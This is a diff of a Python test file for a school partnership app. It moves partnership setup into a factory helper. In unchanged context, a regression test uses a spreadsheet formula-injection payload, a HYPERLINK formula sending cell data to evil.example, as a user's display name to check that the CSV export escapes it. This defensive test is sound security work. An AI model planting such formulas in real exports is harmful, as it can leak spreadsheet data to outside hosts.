@@ -5,9 +5,8 @@ import csv
 import io
 
 from schoolpartners.cities.models import Country
-from schoolpartners.extensions import db
-from schoolpartners.partnerships.models import Partnership
 from schoolpartners.schools.models import SchoolStatus, Visibility
+from tests.factories import add_partnership
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A2,"Open")'
 
@@ -18,15 +17,7 @@ def test_contact_name_with_a_formula_is_text_in_the_coordinators_csv(client, log
     russian = make_school(Country.RU, "Школа № 5")
     evil = make_user("teacher", school=german, display_name=HYPERLINK)
     other = make_user("teacher", school=russian, display_name="Ольга Юг")
-    db.session.add(
-        Partnership(
-            german_school_id=german.id,
-            russian_school_id=russian.id,
-            german_contact_id=evil.id,
-            russian_contact_id=other.id,
-        )
-    )
-    db.session.flush()
+    add_partnership(german, russian, evil, other)
     login(make_user("coordinator"))
     response = client.get("/partnerships.csv?lang=de")
     body = response.get_data(as_text=True)
@@ -40,15 +31,7 @@ def test_contact_name_with_a_formula_is_text_in_the_coordinators_csv(client, log
 
 
 def _partnership(german, russian, make_user):
-    partnership = Partnership(
-        german_school_id=german.id,
-        russian_school_id=russian.id,
-        german_contact_id=make_user("teacher", school=german).id,
-        russian_contact_id=make_user("teacher", school=russian).id,
-    )
-    db.session.add(partnership)
-    db.session.flush()
-    return partnership
+    return add_partnership(german, russian, make_user("teacher", school=german), make_user("teacher", school=russian))
 
 
 def test_the_twin_city_page_hides_staff_only_schools_from_the_public(client, login, make_user, make_school, make_link):
